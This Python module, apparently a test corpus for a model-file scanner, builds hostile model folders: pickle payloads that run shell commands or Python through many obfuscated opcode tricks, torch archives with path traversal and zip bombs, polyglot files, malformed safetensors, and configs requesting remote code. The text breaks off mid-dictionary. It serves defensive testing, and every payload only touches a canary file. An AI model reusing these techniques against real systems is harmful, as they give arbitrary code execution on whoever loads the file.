"""A corpus of hostile model files, built on the spot: each case is a good model folder with one thing wrong in it.

Where a case could run code, it really would: it touches the canary it is given. Nothing here loads anything.
"""

import binascii
import io
import json
import os
import pickle
import socket
import stat
import struct
import sys
import tarfile
import unicodedata
import warnings
import zipfile
from collections.abc import Callable
from pathlib import Path

import numpy as np

Put = Callable[[Path, Path], str | list[str]]  # (folder, canary) → what must be refused
CASES: dict[str, Put] = {}

JSON = dict[str, object]


def case(name: str) -> Callable[[Put], Put]:
    def add(put: Put) -> Put:
        assert name not in CASES, name
        CASES[name] = put
        return put

    return add


def blob(case_name: str, path: str, make: Callable[[Path], bytes] | bytes, refused: str | None = None) -> None:
    """A case that is one file's bytes."""

    def put(folder: Path, canary: Path) -> str:
        target = folder / path
        target.parent.mkdir(parents=True, exist_ok=True)
        target.unlink(missing_ok=True)
        target.write_bytes(make if isinstance(make, bytes) else make(canary))
        return refused or path

    case(case_name)(put)


# --- a good folder --------------------------------------------------------------------------------------------------

TEMPLATE = (
    "{% for m in messages %}{{ '<|im_start|>' + m['role'] + '\\n' + m['content'] + '<|im_end|>\\n' }}{% endfor %}"
    "{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}"
)
CARD = "---\nlicense: apache-2.0\ntags: [lora]\n---\n# A model\n\n<div align='center'><img src='https://x.example/a.png'></div>\n"
ADAPTER: JSON = {"peft_type": "LORA", "r": 8, "auto_mapping": None, "base_model_name_or_path": "owner/name"}
CONFIG: JSON = {"model_type": "llama", "architectures": ["LlamaForCausalLM"], "hidden_size": 8}


def safetensors(tensors: dict[str, object], data: bytes, metadata: object = None) -> bytes:
    """A safetensors file, right or wrong: header entries as given."""
    header = {"__metadata__": metadata, **tensors} if metadata is not None else tensors
    return headed(json.dumps(header).encode(), data)


def headed(header: bytes, data: bytes) -> bytes:
    header += b" " * (-len(header) % 8)
    return struct.pack("<Q", len(header)) + header + data


def entry(dtype: str, shape: list[object], begin: object, end: object) -> JSON:
    return {"dtype": dtype, "shape": shape, "data_offsets": [begin, end]}


def array(values: np.ndarray, dtype: str) -> bytes:
    data = values.tobytes()
    size = {"F8_E4M3": 1, "F8_E5M2": 1, "BF16": 2, "C64": 8}.get(dtype, values.itemsize)
    return safetensors({"a": entry(dtype, [len(data) // size], 0, len(data))}, data)


GOOD_TENSORS = array(np.arange(64, dtype=np.float32), "F32")


def piece(text: bytes) -> bytes:
    inner = b"\x0a" + bytes([len(text)]) + text + b"\x15" + struct.pack("<f", -1.5) + b"\x18\x01"
    return b"\x0a" + bytes([len(inner)]) + inner


def message(number: int, content: bytes) -> bytes:
    """A field of a protocol buffer that holds bytes."""
    length, rest = b"", len(content)
    while rest >= 0x80:
        length, rest = length + bytes([rest & 0x7F | 0x80]), rest >> 7
    return bytes([number << 3 | 2]) + length + bytes([rest]) + content


def good(folder: Path) -> Path:
    """A small model folder in which nothing is wrong."""
    folder.mkdir(parents=True)
    (folder / "model.safetensors").write_bytes(GOOD_TENSORS)
    (folder / "adapter_model.safetensors").write_bytes(GOOD_TENSORS)
    (folder / "config.json").write_text(json.dumps(CONFIG))
    (folder / "adapter_config.json").write_text(json.dumps(ADAPTER))
    (folder / "tokenizer_config.json").write_text(json.dumps({"chat_template": TEMPLATE, "model_max_length": 10**30}))
    (folder / "tokenizer.json").write_text(
        json.dumps({"model": {"type": "BPE", "vocab": {"auto_map": 1, "__class__": 2}}})
    )
    (folder / "tokenizer.model").write_bytes(piece(b"<s>") + piece("▁the".encode()) + b"\x12\x00")
    (folder / "chat_template.jinja").write_text(TEMPLATE)
    (folder / "merges.txt").write_text("#version: 0.2\nc o\n. s\n")
    (folder / "README.md").write_text(CARD)
    (folder / "LICENSE").write_text("Apache License\n")
    (folder / "sub").mkdir()
    (folder / "sub" / "notes.txt").write_text("plain\n")
    for path in folder.rglob("*"):
        path.chmod(0o755 if path.is_dir() else 0o644)
    return folder


# --- pickles --------------------------------------------------------------------------------------------------------


def literal(value: object, protocol: int = 2) -> bytes:
    """A value's opcodes alone, without header and end."""
    return pickle.dumps(value, protocol)[2 if protocol >= 2 else 0 : -1]


def call(module: str, name: str, *args: object) -> bytes:
    return b"\x80\x02c" + f"{module}\n{name}\n".encode() + literal(args) + b"R."


def touch(canary: Path) -> str:
    return f"touch {canary}"


def python(canary: Path) -> str:
    return f"__import__('pathlib').Path({str(canary)!r}).touch()"


def short(text: str) -> bytes:
    return b"\x8c" + bytes([len(text)]) + text.encode()


# Each of these runs code when unpickled; which of them do on this Python is counted by a test.
PICKLES: dict[str, Callable[[Path], bytes]] = {
    "os.system": lambda c: call("os", "system", touch(c)),
    "posix.system": lambda c: call("posix", "system", touch(c)),
    "os.popen": lambda c: call("os", "popen", touch(c)),
    "os.spawnlp": lambda c: call("os", "spawnlp", 0, "touch", "touch", str(c)),
    "subprocess.Popen": lambda c: call("subprocess", "Popen", ["touch", str(c)]),
    "subprocess.check_output": lambda c: call("subprocess", "check_output", ["touch", str(c)]),
    "subprocess.getoutput": lambda c: call("subprocess", "getoutput", touch(c)),
    "builtins.eval": lambda c: call("builtins", "eval", python(c)),
    "builtins.exec": lambda c: call("builtins", "exec", python(c)),
    "__builtin__.eval": lambda c: call("__builtin__", "eval", python(c)),
    "builtins.open": lambda c: call("builtins", "open", str(c), "w"),
    "io.open": lambda c: call("io", "open", str(c), "w"),
    "_io.FileIO": lambda c: call("_io", "FileIO", str(c), "w"),
    "pathlib.touch": lambda c: b"\x80\x04" + short("pathlib") + short("Path.touch") + b"\x93" + short("pathlib")
    + short("PosixPath") + b"\x93" + literal((str(c),), 4) + b"R\x85R.",
    "os.mkdir": lambda c: call("os", "mkdir", str(c)),
    "os.symlink": lambda c: call("os", "symlink", "/nowhere", str(c)),
    "os.mknod": lambda c: call("os", "mknod", str(c)),
    "shutil.copyfile": lambda c: call("shutil", "copyfile", sys.executable, str(c)),
    "timeit.timeit": lambda c: call("timeit", "timeit", "0", python(c)),
    "cProfile.run": lambda c: call("cProfile", "run", python(c)),
    "profile.run": lambda c: call("profile", "run", python(c)),
    "trace.Trace": lambda c: call("trace", "Trace") [:-1] + b"0" + call("builtins", "exec", python(c))[2:],
    "pty.spawn": lambda c: call("pty", "spawn", ["touch", str(c)]),
    "code.interact-free": lambda c: call("code", "InteractiveInterpreter")[:-1] + b"0" + call("os", "system", touch(c))[2:],
    "runpy.run_path": lambda c: call("os", "system", f"echo {python(c)!r} > {c}.py")[:-1] + b"0"
    + call("runpy", "run_path", f"{c}.py")[2:],
    "importlib": lambda c: call("importlib", "import_module", "os")[:-1] + b"0" + call("os", "system", touch(c))[2:],
    "operator.attrgetter": lambda c: b"\x80\x02coperator\nattrgetter\n" + literal(("system",)) + b"R"
    + b"cimportlib\nimport_module\n" + literal(("os",)) + b"R\x85R" + literal((touch(c),)) + b"R.",
    "getattr": lambda c: b"\x80\x02c__builtin__\ngetattr\n" + call("importlib", "import_module", "os")[2:-1]
    + literal("system") + b"\x86R" + literal((touch(c),)) + b"R.",
    "functools.partial": lambda c: b"\x80\x02cfunctools\npartial\ncos\nsystem\n" + literal(touch(c)) + b"\x86R)R.",
    "map-list": lambda c: b"\x80\x02c__builtin__\nlist\nc__builtin__\nmap\ncos\nsystem\n](" + literal(touch(c))
    + b"e\x86R\x85R.",
    "nested pickle": lambda c: call("pickle", "loads", call("os", "system", touch(c))),
    "nested _pickle": lambda c: call("_pickle", "loads", call("os", "system", touch(c))),
    "pydoc.pipepager": lambda c: call("pydoc", "pipepager", "", touch(c)),
    "uuid command": lambda c: call("uuid", "_get_command_stdout", "touch", str(c)),
    "ctypes": lambda c: b"\x80\x04" + short("ctypes") + short("CDLL") + b"\x93" + literal((None,), 4) + b"R0"
    + short("os") + short("system") + b"\x93" + literal((touch(c),), 4) + b"R.",
    "pkgutil.resolve_name": lambda c: call("pkgutil", "resolve_name", "os:system")[:-1] + literal((touch(c),)) + b"R.",
    "bdb.run": lambda c: b"\x80\x04" + short("bdb") + short("Bdb.run") + b"\x93" + short("bdb") + short("Bdb")
    + b"\x93)R" + literal(python(c), 4) + b"\x86R.",
    "sqlite3": lambda c: call("sqlite3", "connect", str(c)),
    "logging file": lambda c: call("logging", "FileHandler", str(c)),
    "tempfile": lambda c: call("os", "makedirs", str(c)),
    "numpy runstring": lambda c: call("numpy.testing._private.utils", "runstring", python(c), {}),
    "numpy.memmap": lambda c: call("numpy", "memmap", str(c), "uint8", "w+", 0, (1,)),
    # how the same call may be written
    "protocol 0": lambda c: b"cos\nsystem\n(V" + touch(c).encode() + b"\ntR.",
    "protocol 1": lambda c: b"cos\nsystem\n" + literal((touch(c),), 1) + b"R.",
    "protocol 3": lambda c: b"\x80\x03cos\nsystem\n" + literal((touch(c),), 3) + b"R.",
    "STACK_GLOBAL": lambda c: b"\x80\x04" + short("os") + short("system") + b"\x93" + literal((touch(c),), 4) + b"R.",
    "STACK_GLOBAL through the memo": lambda c: b"\x80\x04" + short("os") + b"\x94" + short("system") + b"\x940h\x00h\x01\x93"
    + short(touch(c)) + b"\x85R.",
    "memo overwritten": lambda c: b"\x80\x04" + short("torch") + b"q\x000" + short("os") + b"q\x000h\x00" + short("system")
    + b"\x93" + short(touch(c)) + b"\x85R.",
    "name from bytes": lambda c: b"\x80\x04" + short("os") + b"S'system'\n\x93" + short(touch(c)) + b"\x85R.",
    "INST": lambda c: b"(V" + touch(c).encode() + b"\nios\nsystem\n.",
    "OBJ": lambda c: b"\x80\x02(c__builtin__\nexec\nV" + python(c).encode() + b"\no.",
    "NEWOBJ": lambda c: b"\x80\x02c_io\nFileIO\n" + literal((str(c), "w")) + b"\x81" + b"0cos\nsystem\n"
    + literal((touch(c),)) + b"R.",
    "NEWOBJ_EX": lambda c: b"\x80\x04" + short("subprocess") + short("Popen") + b"\x93)}\x920" + short("os")
    + short("system") + b"\x93" + literal((touch(c),), 4) + b"R.",
    "BUILD over a list": lambda c: b"\x80\x02]0cos\nsystem\n" + literal((touch(c),)) + b"R}b.",
    "no end": lambda c: call("os", "system", touch(c))[:-1],
    "frames": lambda c: b"\x80\x04\x95" + struct.pack("<Q", 5) + short("os") + b"0" + call("os", "system", touch(c))[2:],
    "copyreg extension": lambda c: b"\x80\x02ccopyreg\nadd_extension\n" + literal(("os", "system", 7)) + b"R0\x82\x07"
    + literal((touch(c),)) + b"R.",
    "after innocent data": lambda c: b"\x80\x02" + literal({"weights": [1.0] * 50}) + b"0" + call("os", "system", touch(c))[2:],
    "dotted name": lambda c: b"\x80\x04" + short("collections") + short("abc.sys.modules.get") + b"\x93"
    + literal(("os",), 4) + b"R0" + short("os") + short("system") + b"\x93" + literal((touch(c),), 4) + b"R.",
    "on an allowed name": lambda c: b"\x80\x02ccollections\nOrderedDict\n)R0cos\nsystem\n" + literal((touch(c),)) + b"R.",
}  # fmt: skip

# No code in these, but no reader should believe them either.
BROKEN_PICKLES: dict[str, bytes] = {
    "torch.load inside": call("torch.storage", "_load_from_bytes", b"x"),
    "torch.hub": call("torch.hub", "load", "owner/repo", "model"),
    "type rebuilt by name": call("torch._tensor", "_rebuild_from_type_v2", 1, 2, 3, 4),
    "dotted from an allowed name": b"\x80\x04" + short("torch._utils") + short("_rebuild_tensor_v2.__globals__") + b"\x93.",
    "call of a class": b"\x80\x02ctorch\nFloatStorage\n\x8a\x05\x00\x00\x00\x00\x7f\x85R.",
    "state of a class": b"\x80\x02ccollections\nOrderedDict\n}b.",
    "slot state": b"\x80\x02ccollections\nOrderedDict\n)R}}\x86b.",
    "items of a class": b"\x80\x02ccollections\nOrderedDict\n(K\x01K\x02u.",
    "persistent id": b"\x80\x02K\x01Q.",
    "persistent id in letters": b"Pos.system\n.",
    "out-of-band buffer": b"\x80\x05\x97.",
    "extension 1": b"\x80\x02\x82\x01.",
    "extension 2": b"\x80\x02\x83\x01\x01.",
    "extension 4": b"\x80\x02\x84\x01\x01\x01\x01.",
    "sparse memo": b"\x80\x02K\x01r\xff\xff\xff\x7f.",
    "a memo that is not there": b"\x80\x02h\x05.",
    "many items, many marks": b"\x80\x02" + b"N" * 50_000 + b"(t" * 50_000 + b"cos\nsystem\n.",
    "an empty stack": b"\x80\x02R.",
    "a mark remembered": b"\x80\x02N(q\x00h\x00t.",
    "a mark at the end": b"\x80\x02(.",
    "state of a tensor": b"\x80\x02ctorch._utils\n_rebuild_tensor\n)R}b.",
    "a mark called": b"\x80\x02(R.",
    "two in one file": pickle.dumps({"a": 1}) + call("os", "system", "true"),
    "bytes after the end": pickle.dumps([1]) + b"\x00" * 64,
    "cut": pickle.dumps(list(range(100)))[:40],
    "a huge string": b"\x80\x04\x8d" + struct.pack("<Q", 1 << 60) + b"abc.",
    "nothing but noise": bytes(range(256)),
}  # fmt: skip

for title, build in PICKLES.items():
    blob(f"pickle: {title}", "pytorch_model.bin", build)
for title, content in BROKEN_PICKLES.items():
    blob(f"pickle, no code: {title}", "optimizer.pt", content)
for suffix in ["pt", "pth", "pkl", "ckpt", "pickle", "joblib", "dill", "mar", "nemo", "pt2", "data", "dat", "weights"]:
    blob(f"pickle as .{suffix}", f"weights.{suffix}", PICKLES["os.system"])
for suffix in ["safetensors", "json", "txt", "md", "jinja", "model", "yaml"]:
    blob(f"pickle as .{suffix}", f"extra.{suffix}", PICKLES["STACK_GLOBAL"])
    if suffix not in ("safetensors", "json", "jinja", "model", "yaml"):
        blob(f"pickle in letters as .{suffix}", f"extra.{suffix}", PICKLES["protocol 0"])
blob("pickle without a suffix", "weights", PICKLES["os.system"])


# --- what torch.save writes -----------------------------------------------------------------------------------------


def archive(entries: dict[str, bytes], method: int = zipfile.ZIP_STORED) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", method) as made:
        for name, data in entries.items():
            made.writestr(name, data)
    return stream.getvalue()


INNOCENT = {"archive/data.pkl": pickle.dumps({"a": 1}, 2), "archive/version": b"3\n"}


def twice(canary: Path) -> bytes:
    """Two entries of one name: which one is read depends on the reader."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as made:
        made.writestr("archive/data.pkl", INNOCENT["archive/data.pkl"])
        made.writestr("archive/other.pkl", call("os", "system", touch(canary)))
    return stream.getvalue().replace(b"archive/other.pkl", b"archive/data.pkl\0"[:17])


def hidden_bytes(data: bytes, extra: bytes) -> bytes:
    """Bytes between the last entry and the directory, every offset right."""
    at = data.index(b"PK\x01\x02")
    moved = struct.pack("<I", struct.unpack("<I", data[-6:-2])[0] + len(extra))
    return data[:at] + extra + data[at:-6] + moved + data[-2:]


def same_name_twice(second: bytes) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as made, warnings.catch_warnings():
        warnings.simplefilter("ignore")
        made.writestr("archive/data.pkl", INNOCENT["archive/data.pkl"])
        made.writestr("archive/data.pkl", second)
    return stream.getvalue()


def patched(data: bytes, old: bytes, new: bytes, which: int) -> bytes:
    """Change one occurrence: the local header (0) or the directory (-1)."""
    positions = [i for i in range(len(data)) if data.startswith(old, i)]
    at = positions[which]
    return data[:at] + new + data[at + len(old) :]


def flagged(data: bytes) -> bytes:
    """The same archive, its entries said to be encrypted."""
    at = data.index(b"PK\x01\x02")
    return data[: at + 8] + b"\x01\x00" + data[at + 10 :]


ARCHIVES: dict[str, Callable[[Path], bytes] | bytes] = {
    "with code": lambda c: archive({"archive/data.pkl": call("os", "system", touch(c)), "archive/version": b"3\n"}),
    "with code, compressed": lambda c: archive({"archive/data.pkl": call("os", "system", touch(c))}, zipfile.ZIP_DEFLATED),
    "a bomb": archive({"archive/data.pkl": INNOCENT["archive/data.pkl"], "archive/data/0": b"\0" * 20_000_000},
                      zipfile.ZIP_DEFLATED),
    "TorchScript": lambda c: archive({**INNOCENT, "archive/code/__torch__.py": python(c).encode()}),
    "constants.pkl": lambda c: archive({**INNOCENT, "archive/constants.pkl": call("os", "system", touch(c))}),
    "a script inside": lambda c: archive({**INNOCENT, "archive/setup.py": python(c).encode()}),
    "traversal": archive({**INNOCENT, "archive/../../evil": b"x"}),
    "absolute": archive({**INNOCENT, "/etc/cron.d/evil": b"x"}),
    "two folders": archive({**INNOCENT, "other/data.pkl": INNOCENT["archive/data.pkl"]}),
    "no pickle": archive({"archive/version": b"3\n"}),
    "empty": archive({}),
    "one name twice": lambda c: same_name_twice(call("os", "system", touch(c))),
    "one name twice, both innocent": same_name_twice(pickle.dumps({"a": 2}, 2)),
    "a hidden name": twice,
    "encrypted": flagged(archive(INNOCENT)),
    "header and directory disagree": patched(archive(INNOCENT), b"archive/version", b"archive/verzion", 0),
    "a directory of other names": patched(archive(INNOCENT), b"archive/version", b"archive/verzion", -1),
    "sizes that disagree": (made := archive(INNOCENT))[:18] + struct.pack("<II", 999, 999) + made[26:],
    "bytes between": hidden_bytes(archive(INNOCENT), b"x" * 40),
    "bytes before": b"PK\x03\x04" + b"\0" * 60 + archive(INNOCENT),
    "bytes after": archive(INNOCENT) + b"\0" * 100,
    "a comment": lambda c: archive(INNOCENT)[:-2] + struct.pack("<H", 5) + b"hello",
    "a directory without end": archive(INNOCENT)[:-10] + b"\xfe\xff\xff\x7f" + archive(INNOCENT)[-6:],
    "wrong checksum": patched(archive({**INNOCENT, "archive/data/0": b"\x01" * 64}), b"\x01" * 64, b"\x02" * 64, 0),
    "cut": archive(INNOCENT)[:-30],
    "numpy archive": archive({"arr.npy": b"\x93NUMPY"}),
}  # fmt: skip
for title, source in ARCHIVES.items():
    blob(f"torch archive: {title}", "pytorch_model.bin", source)

# --- one file, two formats ------------------------------------------------------------------------------------------


def tar_header(start: bytes, end: bytes = b"") -> bytes:
    """512 bytes that a tar reader takes for the header of a member, though they begin and end as asked."""
    header = bytearray(512)
    header[: len(start)] = start
    header[100:148] = b"0000644\x000000000\x000000000\x0000000000000\x0000000000000\x00"
    header[148:156] = b" " * 8
    header[156:157] = b"0"
    header[512 - len(end) :] = end
    header[148:156] = b"%06o\x00 " % sum(header)
    return bytes(header)


def ends_as_zip(data: bytes, tail: bytes) -> bytes:
    """A ZIP archive after other bytes, its comment long enough to hold what must follow it."""
    return data + archive(INNOCENT)[:-2] + struct.pack("<H", len(tail)) + tail


def pickle_and_tar() -> bytes:
    header = tar_header(b"\x80\x02B" + struct.pack("<I", 512 - 7))
    return header + b"0}."


def pickle_and_zip() -> bytes:
    inner = ends_as_zip(b"", b"0}.")
    return b"\x80\x02B" + struct.pack("<I", len(inner) - 3) + inner


def safetensors_and_zip() -> bytes:
    data = b"\0" * 16 + archive(INNOCENT)
    return safetensors({"a": entry("U8", [len(data)], 0, len(data))}, data)


def safetensors_and_tar() -> bytes:
    """Old tar asks for no magic: a checksum and numbers in octal, for which metadata has room."""
    text = bytearray(
        b'{"__metadata__":{"x":"' + b" " * 600 + b'"},"a":{"dtype":"F32","shape":[4],"data_offsets":[0,16]}}'
    )
    text[92:148] = b"0000644 0000000 0000000 00000000000 00000000000         "
    text[148 - 8 : 156 - 8] = b" " * 8
    text[156 - 8] = ord("0")
    made = headed(bytes(text), b"\0" * 16)
    return made[:148] + b"%06o  " % sum(made[:512]) + made[156:]


def archive_and_tar() -> bytes:
    """The first entry's extra field makes room for a checksum."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as made:
        for name, data in INNOCENT.items():
            info = zipfile.ZipInfo(name)
            info.extra = b"ZZ" + struct.pack("<H", 600) + b"\0" * 600 if name.endswith("data.pkl") else b""
            made.writestr(info, data)
    whole = stream.getvalue()
    return tar_header(whole[:100], whole[157:512]) + whole[512:]


def archive_in_archive() -> bytes:
    return archive({**INNOCENT, "archive/data/0": archive({"archive/data.pkl": call("os", "system", "true")})})


def moved_directory() -> bytes:
    """The offset of the directory is off, which some readers correct and others follow."""
    whole = archive(INNOCENT)
    (offset,) = struct.unpack("<I", whole[-6:-2])
    return whole[:-6] + struct.pack("<I", offset - 1) + whole[-2:]


for title, content in {
    "a pickle and a tar": pickle_and_tar(), "a pickle and a ZIP archive": pickle_and_zip(),
    "a torch archive and a tar": archive_and_tar(), "an archive in the archive's end": archive_in_archive(),
    "a directory that is elsewhere": moved_directory(), "bytes before a torch archive": b"\x80\x02}." + archive(INNOCENT),
}.items():  # fmt: skip
    blob(f"two formats: {title}", "pytorch_model.bin", content)
blob("two formats: safetensors and a ZIP archive", "model.safetensors", safetensors_and_zip())
blob("two formats: safetensors and a tar", "model.safetensors", safetensors_and_tar())

# --- safetensors ----------------------------------------------------------------------------------------------------

F4 = b"\0" * 16


def one(dtype: str = "F32", shape: list[object] | None = None, begin: object = 0, end: object = 16) -> JSON:
    return {"a": entry(dtype, [4] if shape is None else shape, begin, end)}


def poisoned(kind: str, value: float) -> bytes:
    values = np.ones(300_000, np.dtype(kind))
    values[271_828] = value
    return array(values, {"float16": "F16", "float32": "F32", "float64": "F64"}[kind])


def bits(dtype: str, kind: str, value: int) -> bytes:
    values = np.zeros(3000, np.dtype(kind))
    values[2718] = value
    return array(values, dtype)


TENSORS: dict[str, bytes] = {
    "NaN in F32": poisoned("float32", float("nan")),
    "infinity in F32": poisoned("float32", float("inf")),
    "minus infinity in F32": poisoned("float32", float("-inf")),
    "NaN in F16": poisoned("float16", float("nan")),
    "infinity in F16": poisoned("float16", float("inf")),
    "NaN in F64": poisoned("float64", float("nan")),
    "infinity in F64": poisoned("float64", float("-inf")),
    "NaN in BF16": bits("BF16", "uint16", 0x7FC0),
    "infinity in BF16": bits("BF16", "uint16", 0xFF80),
    "NaN in F8_E4M3": bits("F8_E4M3", "uint8", 0x7F),
    "negative NaN in F8_E4M3": bits("F8_E4M3", "uint8", 0xFF),
    "infinity in F8_E5M2": bits("F8_E5M2", "uint8", 0x7C),
    "NaN in F8_E5M2": bits("F8_E5M2", "uint8", 0xFE),
    "NaN in C64": array(np.array([1 + 1j, complex(0, float("nan"))], np.complex64), "C64"),
    "a boolean of 2": safetensors(one("BOOL", [16]), b"\x02" * 16),
    "a key twice": headed(b'{"a":{"dtype":"F32","shape":[4],"data_offsets":[0,16]},'
                          b'"a":{"dtype":"F32","shape":[4],"data_offsets":[16,32]}}', F4 * 2),
    "a dtype twice": headed(b'{"a":{"dtype":"F32","dtype":"I32","shape":[4],"data_offsets":[0,16]}}', F4),
    "trailing bytes": safetensors(one(), F4 + b"x"),
    "a trailing program": safetensors(one(), F4 + b"\x7fELF" + b"\0" * 500),
    "a trailing archive": safetensors(one(), F4 + archive(INNOCENT)),
    "cut": safetensors(one(), F4[:-1]),
    "cut in the header": safetensors(one(), F4)[:30],
    "seven bytes": b"\x01\0\0\0\0\0\0",
    "nothing": b"",
    "a hole": safetensors({"a": entry("F32", [2], 0, 8), "b": entry("F32", [1], 12, 16)}, F4),
    "an overlap": safetensors({"a": entry("F32", [3], 0, 12), "b": entry("F32", [2], 8, 16)}, F4),
    "a late start": safetensors(one("F32", [3], 4, 16), F4),
    "offsets backwards": safetensors(one("F32", [4], 16, 0), F4),
    "negative offsets": safetensors(one("F32", [4], -16, 0), F4),
    "minus nothing": headed(b'{"a":{"dtype":"F32","shape":[4],"data_offsets":[-0,16]}}', F4),
    "offsets with a point": safetensors(one("F32", [4], 0.0, 16.0), F4),
    "offsets of true": safetensors({"a": entry("U8", [1], False, True)}, b"x"),
    "three offsets": safetensors({"a": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16, 16]}}, F4),
    "an offset of 10^30": safetensors(one("F32", [4], 0, 10**30), F4),
    "a shape that is not the bytes": safetensors(one("F32", [5]), F4),
    "a shape that overflows": safetensors(one("F32", [2**62, 2**62, 4]), F4),
    "a shape of nothing that overflows": safetensors(one("F32", [2**40, 2**40, 0], 0, 0), b""),
    "a negative shape": safetensors(one("F32", [-4]), F4),
    "a shape of texts": safetensors(one("F32", ["4"]), F4),
    "too many dimensions": safetensors(one("F32", [1] * 40 + [4]), F4),
    "an unknown dtype": safetensors(one("F128", [1]), F4),
    "a dtype that is no text": safetensors({"a": {"dtype": ["F32"], "shape": [4], "data_offsets": [0, 16]}}, F4),
    "a key too many": safetensors({"a": {**entry("F32", [4], 0, 16), "code": "x"}}, F4),
    "a key missing": safetensors({"a": {"dtype": "F32", "shape": [4]}}, F4),
    "a tensor that is a list": safetensors({"a": [1, 2]}, F4),
    "no tensors": safetensors({}, b""),
    "a control character in a name": safetensors({"a\u001b[2J": entry("F32", [4], 0, 16)}, F4),
    "half a character in a name": headed(b'{"\\ud800":{"dtype":"F32","shape":[4],"data_offsets":[0,16]}}', F4),
    "metadata of numbers": safetensors(one(), F4, {"a": 1}),
    "metadata of lists": safetensors(one(), F4, ["a"]),
    "metadata of two megabytes": safetensors(one(), F4, {"a": "x" * 2_000_000}),
    "a header of a gigabyte": struct.pack("<Q", 1 << 30) + b"{}",
    "a header of 2^63": struct.pack("<Q", 1 << 63) + b"{}" + F4,
    "a header of eleven megabytes": headed(b"{" + b" " * 11_000_000 + b"}", b""),
    "a deep header": headed(b'{"a":' + b"[" * 100_000 + b"]" * 100_000 + b"}", b""),
    "a header that is a list": headed(b"[1, 2]", b""),
    "a header that is not JSON": headed(b"{'a': 1}", b""),
    "a header that is not UTF-8": headed(b'{"\xff\xfe": 1}', b""),
    "a header with a byte order mark": headed("\ufeff{}".encode(), b""),
    "a header with NaN": headed(b'{"a":{"dtype":"F32","shape":[NaN],"data_offsets":[0,16]}}', F4),
    "HTML": b"<!DOCTYPE html><script>alert(1)</script>",
    "GGUF": b"GGUF\x03\0\0\0" + b"\0" * 100,
    "a git LFS pointer": b"version https://git-lfs.github.com/spec/v1\noid sha256:" + b"0" * 64 + b"\nsize 5\n",
}  # fmt: skip
for title, content in TENSORS.items():
    blob(f"safetensors: {title}", "model.safetensors", content)

# --- JSON -----------------------------------------------------------------------------------------------------------

AUTO_MAP: JSON = {"AutoModelForCausalLM": "modeling_evil.EvilModel"}


def config(title: str, name: str, value: object) -> None:
    blob(f"JSON: {title}", name, json.dumps(value).encode())


config("auto_map in config.json", "config.json", {**CONFIG, "auto_map": AUTO_MAP})
config("auto_map to another repository", "config.json", {**CONFIG, "auto_map": {"AutoModel": "owner/evil--m.Evil"}})
config("auto_map in a part", "config.json", {**CONFIG, "text_config": {"auto_map": AUTO_MAP}})
config("auto_map in the tokenizer", "tokenizer_config.json", {"auto_map": {"AutoTokenizer": ["t.Evil", None]}})
config("auto_map in the adapter", "adapter_config.json", {**ADAPTER, "auto_map": AUTO_MAP})
config("auto_map in a processor", "processor_config.json", {"auto_map": {"AutoProcessor": "p.Evil"}})
config("auto_map in a preprocessor", "preprocessor_config.json", {"auto_map": {"AutoImageProcessor": "p.Evil"}})
config("auto_map in a folder below", "sub/config.json", {"auto_map": AUTO_MAP})
config("trust_remote_code", "tokenizer_config.json", {"trust_remote_code": True})
config("trust_remote_code as text", "config.json", {**CONFIG, "trust_remote_code": "yes"})
config(
    "trust_remote_code for a tokenizer",
    "adapter_config.json",
    {**ADAPTER, "tokenizer_kwargs": {"trust_remote_code": True}},
)
config("custom pipelines", "config.json", {**CONFIG, "custom_pipelines": {"evil": {"impl": "evil.Pipeline"}}})
config("custom generation", "generation_config.json", {"custom_generate": "owner/evil"})
config("kernels from the hub", "config.json", {**CONFIG, "_attn_implementation": "owner/evil-attention"})
config("kernels for a part", "config.json", {**CONFIG, "attn_implementation": {"text_config": "owner/evil:attn"}})
config(
    "a library of PEFT's",
    "adapter_config.json",
    {**ADAPTER, "auto_mapping": {"parent_library": "evil", "base_model_class": "X"}},
)
config(
    "the library os",
    "adapter_config.json",
    {**ADAPTER, "auto_mapping": {"parent_library": "os", "base_model_class": "system"}},
)
config("another megatron", "adapter_config.json", {**ADAPTER, "megatron_core": "evil.core"})
config("a pickle to load", "adapter_config.json", {**ADAPTER, "corda_config": {"cache_file": "/tmp/evil.pt"}})
config("a prompt to unpickle", "adapter_config.json", {**ADAPTER, "prompt_tuning_init_state_dict_path": "evil.bin"})
for number, place in enumerate([
    "https://evil.example/model", "file:///etc/passwd", "s3://bucket/model", "../../etc", "a/../../b", "..",
    "~/models/x", "\\\\server\\share", "//server/share", "a/%2e%2e/%2e%2e/b", "name\u0000", "a\u202eb", 5, ["x"],
]):  # fmt: skip
    config(f"a base called thing {number}", "adapter_config.json", {**ADAPTER, "base_model_name_or_path": place})
SWELLING_MAP = struct.pack("<I", 8) + b"\0" * 8 + b"x" * 5000 + b"\0"  # a trie, then the texts that it leads to
config("an adapter of adapters", "adapter_config.json", {"peft_type": "XLORA", "adapters": {"0": "owner/evil"}})
for name in ("modules.json", "model_index.json", "sub/modules.json"):
    config(f"classes by name in {name}", name, [{"idx": 0, "name": "0", "path": "", "type": "evil.Module"}])
for title, part in {
    "a normalizer of a replacement": {"normalizer": {"type": "Replace", "pattern": {"String": "a"}, "content": "a" * 5000}},
    "a normalizer that doubles and doubles": {"normalizer": {"type": "Sequence", "normalizers": [
        {"type": "Replace", "pattern": {"Regex": "a"}, "content": "aa"}] * 40}},
    "a normalizer that prepends": {"normalizer": {"type": "Prepend", "prepend": "x" * 5000}},
    "a decoder": {"decoder": {"type": "Sequence", "decoders": [
        {"type": "Replace", "pattern": {"String": "▁"}, "content": " " * 50}] * 3}},
    "a pre-tokenizer": {"pre_tokenizer": {"type": "Metaspace", "replacement": "x" * 5000}},
    "a template": {"post_processor": {"type": "TemplateProcessing", "single": [{"Sequence": {"id": "A", "type_id": 0}}] * 500,
                                      "pair": [], "special_tokens": {}}},
    "special tokens": {"post_processor": {"type": "TemplateProcessing", "single": [], "pair": [], "special_tokens": {
        "x": {"id": "x", "ids": [1] * 5000, "tokens": ["x"] * 5000}}}},
    "a table of characters": {"normalizer": {"type": "Precompiled", "precompiled_charsmap": binascii.b2a_base64(
        SWELLING_MAP).decode()}},
    "padding": {"padding": {"strategy": {"Fixed": 10**10}, "pad_id": 0, "pad_token": "x"}},
